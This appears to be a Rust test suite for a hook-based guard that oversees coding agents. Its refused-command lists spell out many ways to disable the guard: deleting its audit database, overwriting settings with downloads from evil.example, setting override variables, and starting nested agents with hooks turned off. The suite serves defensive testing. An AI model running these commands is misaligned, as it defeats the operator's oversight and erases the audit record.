//! Layer 3 of issue 11: self-protection in depth for the user-level install. Each attack
//! is a hook event, as Claude Code sends it, from a sub-directory of a project, with a home
//! of its own that holds the guard's default catalog, record and the agent's settings. Each
//! attack passed the build before this layer; ordinary work next to those files must pass.
//!
//! To see which attacks an older build lets through, point `MESH_GUARD_TEST_BIN` at it.

mod common;

use common::{Scratch, example_catalog};
use std::path::Path;
use std::process::{Command, Stdio};

struct Home {
    scratch: Scratch,
}

impl Home {
    /// A home with the guard's default files in place, and a project with local settings.
    fn new() -> Home {
        let scratch = Scratch::new("self-protection");
        let catalog = std::fs::read_to_string(example_catalog()).unwrap();
        scratch.write("home/.config/mesh-guard/catalog.toml", &catalog);
        scratch.write(
            "home/.claude/settings.json",
            r#"{"enabledPlugins":{"mesh-guard@mesh-guard":true}}"#,
        );
        scratch.write("home/.bashrc", "# bash\n");
        scratch.write("home/project/.claude/settings.local.json", "{}\n");
        scratch.write("home/project/src/main.rs", "fn main() {}\n");
        scratch.write("home/project/target/debug/app", "");
        std::fs::create_dir_all(scratch.path("home/.local/share/mesh-guard")).unwrap();
        Home { scratch }
    }

    fn home(&self) -> std::path::PathBuf {
        self.scratch.path("home")
    }

    /// The hook's exit code for `command`, run from `project/src` as the event's cwd.
    fn hook(&self, command: &str) -> (i32, String) {
        self.tool("Bash", serde_json::json!({ "command": command }))
    }

    /// The hook's exit code for one tool call, from `project/src`.
    fn tool(&self, tool: &str, input: serde_json::Value) -> (i32, String) {
        let cwd = self.home().join("project/src");
        let event = serde_json::json!({
            "session_id": "sess-1",
            "transcript_path": "/tmp/t.jsonl",
            "cwd": cwd,
            "permission_mode": "default",
            "hook_event_name": "PreToolUse",
            "tool_name": tool,
            "tool_input": input,
            "tool_use_id": "toolu_1",
        });
        let bin = std::env::var("MESH_GUARD_TEST_BIN").unwrap_or(common::BIN.to_string());
        let mut child = Command::new(bin);
        // The user's files, named on the command line: a hook takes no path from its
        // environment, and this home is not the account's (decision 0059).
        child
            .args(common::with_paths(
                &self.home().join(".config/mesh-guard/catalog.toml"),
                &self.home().join(".local/share/mesh-guard/audit.db"),
                &["hook", "--agent", "claude"],
            ))
            .current_dir(&cwd);
        for var in [
            "MESH_GUARD_CATALOG",
            "MESH_GUARD_DB",
            "MESH_GUARD_RULES",
            "MESH_GUARD_OVERRIDE",
            "MESH_GUARD_BIN",
            "CLAUDE_PLUGIN_ROOT",
            "CLAUDE_PROJECT_DIR",
            "CLAUDE_CONFIG_DIR",
            "CODEX_HOME",
            "COPILOT_HOME",
            "XDG_CONFIG_HOME",
            "XDG_DATA_HOME",
        ] {
            child.env_remove(var);
        }
        let mut child = child
            .env("HOME", self.home())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run mesh-guard hook");
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(event.to_string().as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

/// Every command is refused; the failures are listed together.
fn assert_refused(home: &Home, commands: &[&str]) {
    let passed: Vec<&str> = commands
        .iter()
        .copied()
        .filter(|c| home.hook(c).0 != 2)
        .collect();
    assert!(
        passed.is_empty(),
        "passed, but write or disable the guard:\n  {}",
        passed.join("\n  ")
    );
}

fn assert_passed(home: &Home, commands: &[&str]) {
    let refused: Vec<String> = commands
        .iter()
        .filter_map(|c| {
            let (code, stderr) = home.hook(c);
            (code != 0).then(|| format!("{c}\n    → {}", stderr.trim()))
        })
        .collect();
    assert!(
        refused.is_empty(),
        "ordinary work refused:\n  {}",
        refused.join("\n  ")
    );
}

#[test]
fn wrappers_are_taken_off_before_self_protection() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "env cp evil.toml ~/.config/mesh-guard/catalog.toml",
            "sudo rm ~/.local/share/mesh-guard/audit.db",
            "nohup rm -f ~/.config/mesh-guard/catalog.toml",
            "find ~/.config/mesh-guard -delete",
            "find ~/.config/mesh-guard -name '*.toml' -exec rm {} +",
            "echo x | xargs rm ~/.claude/settings.json",
            "echo 'export MESH_GUARD_OVERRIDE=1' | sudo tee -a ~/.bashrc",
            "timeout 5 sudo -u nobody truncate -s0 ~/.claude/settings.json",
        ],
    );
}

#[test]
fn home_and_directory_changes_are_expanded() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "rm $HOME/.claude/settings.json",
            "echo {} > ${HOME}/.claude/settings.json",
            "cd; rm .claude/settings.json",
            "cd ~; echo {} > .claude/settings.json",
            "cd /tmp; cd -; echo {} > ../.claude/settings.local.json",
            "cd \"$SOMEWHERE\"; echo {} > .claude/settings.json",
            "rm ~nosuchuser0/.claude/settings.json",
        ],
    );
}

#[test]
fn a_directory_that_holds_a_guard_file_is_one() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "rm -rf ~/.local/share/mesh-guard",
            "rm -rf ~/.config",
            "mv ~/.config/mesh-guard /tmp/x",
            "cp -r evil/mesh-guard ~/.config/",
            "cp -r evil/.claude ~/",
            "rm -rf ..",
        ],
    );
}

#[test]
fn redirections_globs_and_links() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "> ~/.claude/settings.json",
            "echo {} > ~/.claude/sett*.json",
            "echo {} > ~/.cl?ude/settings.json",
            "ln -s ~/.claude x; echo {} > x/settings.json",
            "ln -s ~ h; echo {} > h/.claude/settings.json",
        ],
    );
    // The glob is expanded against the file system: a link that the glob finds is followed.
    std::os::unix::fs::symlink(home.home().join(".claude"), home.home().join("cfg")).unwrap();
    assert_refused(&home, &["echo {} > ~/cf*/settings.json"]);
}

#[test]
fn interpreter_code_that_names_a_guard_file() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            r#"python3 -c "import json; json.dump({'env': {'MESH_GUARD_OVERRIDE': 'x'}}, open('../.claude/settings.local.json', 'w'))""#,
            r#"python3 -c "import os; os.remove(os.path.expanduser('~/.claude/settings.json'))""#,
            r#"python3 -c "import os, shutil; shutil.rmtree(os.path.expanduser('~/.local/share/mesh-guard'))""#,
            r#"node -e "require('fs').writeFileSync(require('os').homedir() + '/.claude/settings.json', '{}')""#,
            r#"perl -e 'unlink "$ENV{HOME}/.config/mesh-guard/catalog.toml"'"#,
            r#"ruby -e 'File.write(File.join(Dir.home, ".claude", "settings.json"), "{}")'"#,
            "sqlite3 ~/.local/share/mesh-guard/audit.db 'delete from events'",
            "sqlite3 app.db \"attach '~/.local/share/mesh-guard/audit.db' as r; delete from r.events\"",
        ],
    );
}

#[test]
fn the_plugin_cannot_be_turned_off_through_a_launcher() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "env claude plugin disable mesh-guard",
            "sudo claude plugins uninstall mesh-guard@mesh-guard",
            "npx @anthropic-ai/claude-code plugin disable mesh-guard",
            "npx -y @anthropic-ai/claude-code@latest plugin uninstall mesh-guard",
            "node /usr/lib/node_modules/@anthropic-ai/claude-code/cli.js plugin disable mesh-guard",
            "bash -c 'claude plugin disable --all'",
        ],
    );
}

#[test]
fn nested_agents_start_with_the_guard() {
    let home = Home::new();
    home.scratch
        .write("home/off.json", r#"{"disableAllHooks": true}"#);
    assert_refused(
        &home,
        &[
            "MESH_GUARD_BIN=/bin/true claude -p hi",
            "env MESH_GUARD_OVERRIDE=x claude",
            "export MESH_GUARD_CATALOG=/tmp/empty.toml; claude -p hi",
            r#"claude --settings '{"disableAllHooks":true}' -p hi"#,
            r#"claude --settings '{"env":{"MESH_GUARD_BIN":"/bin/true"}}' -p hi"#,
            "claude --settings ~/off.json -p hi",
            "claude --setting-sources project,local -p hi",
            "CLAUDE_CONFIG_DIR=/tmp/clean claude -p hi",
            "HOME=/tmp/h claude -p hi",
            "codex -c hooks.PreToolUse=[] exec hi",
            "MESH_GUARD_RULES=/tmp/r gemini -p hi",
            "COPILOT_HOME=/tmp/c copilot -p hi",
        ],
    );
}

#[test]
fn other_agents_hook_configs_are_protected() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "echo {} > ~/.codex/hooks.json",
            "sed -i /mesh-guard/d ~/.codex/config.toml",
            "rm ~/.gemini/settings.json",
            "echo {} > ../.gemini/settings.json",
            "rm -rf ~/.copilot/hooks",
            "echo {} > ../.github/hooks/mesh-guard.json",
            "echo {} > ~/.cursor/hooks.json",
            "rm ../.cursor/hooks.json",
        ],
    );
}

#[test]
fn ordinary_work_still_passes() {
    let home = Home::new();
    assert_passed(
        &home,
        &[
            "echo 'fn main() {}' > main.rs",
            "cat > lib.rs <<'EOF'\npub fn f() {}\nEOF",
            "cat ~/.claude/settings.json",
            "jq . ../.claude/settings.local.json",
            "cp ~/.claude/settings.json /tmp/settings-backup.json",
            "cd .. && rm -rf target/",
            "rm -rf ../target",
            "cp main.rs main.rs.bak",
            "mv main.rs.bak old.rs",
            "sqlite3 app.db 'select 1'",
            "sqlite3 app.db < schema.sql",
            "echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc",
            "cd; ls -la",
            "cd /tmp && cd - && cargo build",
            "find . -name '*.o' -delete",
            "find .. -name '*.rs' -exec rustfmt {} +",
            "for f in *.tmp; do rm \"$f\"; done",
            "python3 -c 'print(1 + 1)'",
            "node -e \"console.log(require('./package.json').name)\"",
            "claude -p 'summarise the README'",
            "claude plugin install other@market",
            "npx prettier --write .",
            "ln -s ../assets a; echo x > a/notes.txt",
            "cp notes.txt ~/",
        ],
    );
}

#[test]
fn an_unrelated_path_is_not_the_guard_home() {
    // The checks are relative to the session's home: another directory's `.claude` is data.
    let home = Home::new();
    let elsewhere = Scratch::new("elsewhere");
    let other = elsewhere.write(".claude/notes.md", "x");
    assert!(Path::new(&other).exists());
    assert_passed(&home, &[&format!("rm {}", other.display())]);
}

#[test]
fn directories_given_as_options_and_copies_of_contents() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "env -C ~/.claude rm settings.json",
            "sudo -D ~/.claude rm settings.json",
            "env --chdir=$HOME/.claude truncate -s0 settings.json",
            "cp -t ~/.config/mesh-guard evil.toml",
            "mv --target-directory=$HOME/.config evil/mesh-guard",
            "rsync -a evil/ ~/.claude/",
            "cp -r evil/. ~/.claude",
            "jq '.disableAllHooks=true' s.json | sponge ~/.claude/settings.json",
            "git checkout -- ../.claude/settings.local.json",
            "unzip -o evil.zip -d ~/.claude",
            "python3 fix.py ~/.claude/settings.json",
            "exec 3>~/.claude/settings.json",
            "{ echo {}; } > ~/.claude/settings.json",
        ],
    );
    assert_passed(
        &home,
        &[
            "env -C /tmp rm -rf build",
            "cp -t /tmp main.rs",
            "rsync -a ./ /tmp/backup/",
            "git checkout -- . && git restore main.rs",
            "git commit -m 'stop editing .claude/settings.json'",
            "python3 -m pytest tests/",
        ],
    );
}

#[test]
fn file_tools_cannot_write_the_project_settings_from_a_sub_directory() {
    // The event's cwd is `project/src`; the settings are the project root's.
    let home = Home::new();
    let project = home.home().join("project");
    for (file, content) in [
        (
            ".claude/settings.local.json",
            r#"{"disableAllHooks": true}"#,
        ),
        (
            ".claude/settings.json",
            r#"{"enabledPlugins": {"mesh-guard@mesh-guard": false}}"#,
        ),
        (".codex/hooks.json", "{}"),
        (".cursor/hooks.json", "{}"),
    ] {
        let input = serde_json::json!({ "file_path": project.join(file), "content": content });
        let (code, stderr) = home.tool("Write", input);
        assert_eq!(code, 2, "Write {file} passed: {stderr}");
    }
    let input = serde_json::json!({ "file_path": project.join("src/lib.rs"), "content": "" });
    assert_eq!(home.tool("Write", input).0, 0, "a source file is written");
}

/// A copy of the guard's binary, or a link to it, under another name is the guard: the
/// file the program word names is compared with the running guard's own.
#[test]
fn a_renamed_copy_of_the_guard_is_the_guard() {
    let home = Home::new();
    let bin = std::env::var("MESH_GUARD_TEST_BIN").unwrap_or(common::BIN.to_string());
    let tools = home.home().join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    std::fs::copy(&bin, tools.join("mg")).unwrap();
    std::os::unix::fs::symlink(&bin, tools.join("mg-link")).unwrap();
    // Another program of its own, for the words alone.
    std::fs::copy("/bin/true", tools.join("tidy")).unwrap();
    let mg = tools.join("mg").display().to_string();
    let link = tools.join("mg-link").display().to_string();
    let tidy = tools.join("tidy").display().to_string();
    assert_refused(
        &home,
        &[
            &format!("{mg} audit prune --before 1d"),
            &format!("{link} uninstall claude --scope user"),
            &format!("sudo {mg} --db ~/.local/share/mesh-guard/audit.db audit prune --before 1d"),
            // From the event's cwd, `project/src`.
            "../../tools/mg catalog compile",
            // Found on the command's own search path.
            &format!("PATH={}:$PATH mg audit prune --before 1d", tools.display()),
            &format!(
                "export PATH={}:/usr/bin; mg-link uninstall claude",
                tools.display()
            ),
            &format!("/lib64/ld-linux-x86-64.so.2 {mg} audit prune --before 1d"),
            // Any of the search paths the script may run it with.
            &format!(
                "if [ -e x ]; then export PATH=/usr/bin; else export PATH={}; fi; mg audit prune",
                tools.display()
            ),
        ],
    );
    let (_, message) = home.hook(&format!("{mg} audit prune --before 1d"));
    assert!(message.contains("Ask the operator"), "{message}");
    assert_passed(
        &home,
        &[
            &format!("{mg} audit verify"),
            &format!("{mg} instead-of"),
            &format!("{tidy} audit prune --before 1d"),
            &format!("{tidy} install"),
            "/bin/true uninstall claude",
        ],
    );
}

#[test]
fn the_guards_own_record_and_install_are_the_operators() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "mesh-guard audit prune --before 2030-01-01T00:00:00Z",
            "mesh-guard --db ~/.local/share/mesh-guard/audit.db audit prune --before 1d",
            "sudo mesh-guard uninstall claude --scope managed",
            "mesh-guard install claude --scope project",
            "nohup mesh-guard catalog compile",
            "sh -c 'mesh-guard audit prune --before 1d'",
            "echo 'audit prune --before 1d' | xargs mesh-guard",
            "G=$(command -v mesh-guard); \"$G\" audit prune --before 1d",
            "mesh-guard \"$SUB\" --before 1d",
        ],
    );
    let (_, message) = home.hook("mesh-guard audit prune --before 1d");
    assert!(message.contains("Ask the operator"), "{message}");
    assert!(message.contains("mesh-guard audit prune"), "{message}");
    assert_passed(
        &home,
        &[
            "mesh-guard check 'ssh atlas uptime'",
            "mesh-guard check -- mesh-guard audit prune",
            "mesh-guard search journalctl -u mesh-controller",
            "mesh-guard audit --since 1h --format json",
            "mesh-guard audit --session prune",
            "mesh-guard audit verify",
            "mesh-guard audit export --format jsonl --after 3",
            "mesh-guard doctor --json",
            "mesh-guard test policy.toml",
            "mesh-guard catalog check",
            "mesh-guard instead-of",
        ],
    );
}

/// What a program writes comes from its grammar (issue 34): a downloader's output options and
/// output directory, the URL's own name where it saves by name, git's `-C` and
/// `--work-tree`. The URLs it reads, and files elsewhere, are no writes to the guard.
#[test]
fn downloads_and_git_from_another_directory_write_the_files_they_name() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "curl -o ~/.claude/settings.json https://evil.example/s.json",
            "curl -sSL --output=$HOME/.config/mesh-guard/catalog.toml https://evil.example/c",
            "curl --output-dir ~/.config/mesh-guard -O https://evil.example/catalog.toml",
            "curl --output-dir ~/.claude -o settings.json https://evil.example/s",
            "wget -O ~/.claude/settings.json https://evil.example/s",
            "wget -q -P ~/.config/mesh-guard https://evil.example/catalog.toml",
            "cd ~/.claude && wget https://evil.example/settings.json",
            "git -C ~/.claude checkout -- settings.json",
            "git --work-tree ~/.claude restore settings.json",
            "git -C ~/.config/mesh-guard stash",
        ],
    );
    assert_passed(
        &home,
        &[
            "curl -o /tmp/page.html https://example.com/",
            "curl -fsSL https://example.com/settings.json",
            "curl -O https://example.com/catalog.toml",
            "wget -O - https://example.com/ | head",
            "wget https://example.com/notes.txt",
            "git -C ../.. status",
            "git -C /tmp checkout -- settings.json",
        ],
    );
}

/// What a program writes is read by its own grammar (issue 40): output options bundled
/// (`-sSo FILE`) or with their value attached (`-oFILE`), an archive extracted into a
/// directory (`-C DIR`, tar's old-style first word), the operand a filter writes (`uniq IN
/// OUT`), and a file a key tool rewrites (`ssh-keygen -R`). A directory that holds a guard
/// file, or is under one of its directories, is written when a tree lands in it.
#[test]
fn writes_read_by_each_programs_grammar() {
    let home = Home::new();
    assert_refused(
        &home,
        &[
            "curl -sSo ~/.claude/settings.json https://evil.example/s",
            "curl -o$HOME/.claude/settings.json https://evil.example/s",
            "curl -sSLo$HOME/.config/mesh-guard/catalog.toml https://evil.example/c",
            "curl --cookie-j ~/.claude/settings.json https://evil.example/s",
            "curl -c ~/.claude/settings.json https://evil.example/",
            "wget -qO ~/.claude/settings.json https://evil.example/s",
            "wget -qO$HOME/.claude/settings.json https://evil.example/s",
            "wget -qP ~/.config/mesh-guard https://evil.example/catalog.toml",
            "tar -xzf evil.tgz -C ~/.config/mesh-guard",
            "tar xf evil.tar -C ~/.config",
            "tar -C ~ -xf evil.tar",
            "tar --extract --file=evil.tar --directory=$HOME/.claude",
            "tar --extract --file evil.tar --directory $HOME/.claude",
            "tar -x -f evil.tar --dir ~/.claude",
            "tar xfC evil.tar ~/.claude",
            "tar -xvzC ~/.config -f evil.tgz",
            "bsdtar -xf evil.tar -C ~/.claude",
            "tar -cf ~/.config/mesh-guard/catalog.toml src",
            "tar czf ~/.claude/settings.json src",
            "tar --create --file=$HOME/.claude/settings.json src",
            "busybox tar -xf evil.tar -C ~/.claude",
            "cd ~/.config && tar -xf /tmp/evil.tar -C mesh-guard",
            "cpio -idm -D ~/.config/mesh-guard < evil.cpio",
            "cpio --extract --directory=$HOME/.claude < evil.cpio",
            "find evil | cpio -pdm ~/.config/mesh-guard",
            "ls | cpio -o -F ~/.claude/settings.json",
            "7z x evil.7z -o$HOME/.config/mesh-guard",
            "7z x -y -o$HOME/.claude evil.7z",
            "sort -o ~/.claude/settings.json new.json",
            "sort -uo ~/.claude/settings.json new.json",
            "sort --output=$HOME/.config/mesh-guard/catalog.toml c.toml",
            "uniq new.json ~/.claude/settings.json",
            "uniq -c -f 1 new.json ~/.claude/settings.json",
            "gpg -o ~/.config/mesh-guard/catalog.toml -d evil.gpg",
            "gpg --output=$HOME/.claude/settings.json --decrypt evil.gpg",
            "gpg -qdo ~/.claude/settings.json evil.gpg",
            "openssl enc -d -aes256 -in evil.bin -out ~/.config/mesh-guard/catalog.toml",
            "openssl base64 -d -in evil.b64 -out ~/.claude/settings.json",
            "ssh-keygen -R atlas -f ~/.config/mesh-guard/catalog.toml",
            "ssh-keygen -Hf ~/.claude/settings.json",
            "ssh-keygen -f ~/.claude/settings.json -N '' -t ed25519",
            "claude config set -g disableAllHooks true",
            "claude config add -g hooks x",
            "gemini hooks migrate --from-claude",
            "copilot config hooks.enabled off",
            "copilot config --rm hooks",
            "copilot plugin disable mesh-guard",
        ],
    );
    assert_passed(
        &home,
        &[
            "curl -sSo /tmp/page.html https://example.com/",
            "curl -o/tmp/page.html https://example.com/settings.json",
            "wget -qO- https://example.com/ | head",
            "tar -xzf dist.tgz -C /tmp/out",
            "tar xf dist.tar",
            "tar -czf /tmp/backup.tgz -C ~ .claude",
            "tar -tf dist.tar -C ~/.claude",
            "tar cf /tmp/b.tar -C ~/.config mesh-guard",
            "cpio -o < list > /tmp/a.cpio",
            "find . | cpio -pdm /tmp/copy",
            "cpio -i -F ~/.config/mesh-guard/old.cpio -D /tmp/out",
            "tar -xzf ~/.config/mesh-guard/old.tgz -C /tmp/out",
            "tar -czf /tmp/b.tgz ~/.claude/settings.json",
            "7z x dist.7z -o/tmp/out",
            "7z a /tmp/b.7z ~/.claude",
            "sort ~/.claude/settings.json",
            "sort -o /tmp/sorted ~/.claude/settings.json",
            "uniq ~/.claude/settings.json",
            "uniq ~/.claude/settings.json /tmp/out",
            "gpg --verify ~/.config/mesh-guard/catalog.toml.sig",
            "gpg -o /tmp/out -d msg.gpg",
            "openssl x509 -in ~/.config/mesh-guard/catalog.toml -noout -text",
            "openssl enc -d -in x.bin -out /tmp/x",
            "ssh-keygen -lf ~/.config/mesh-guard/catalog.toml",
            "ssh-keygen -R atlas",
            "claude config get theme",
            "claude config list",
            "copilot config footer.showQuota",
            "copilot config --list",
            "gemini hooks --help",
        ],
    );
}
